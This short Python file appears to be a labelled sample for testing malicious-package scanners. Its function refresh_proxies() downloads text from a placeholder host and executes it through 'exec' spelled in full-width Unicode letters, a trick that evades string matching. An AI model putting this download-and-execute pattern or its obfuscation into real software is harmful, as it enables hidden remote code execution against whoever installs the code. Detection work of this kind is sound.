# technique: exec of a downloaded payload spelled in full-width letters (NFKC-normalised by Python)
# class: nfkc
# source: Phylum, "onyxproxy" PyPI package write-up (Unicode identifier variants to evade string scanners)
# declares: network
import urllib.request


def refresh_proxies():
    page = urllib.request.urlopen("https://proxy-list.example.net/latest", timeout=10).read()
    ｅｘｅｃ(page.decode())
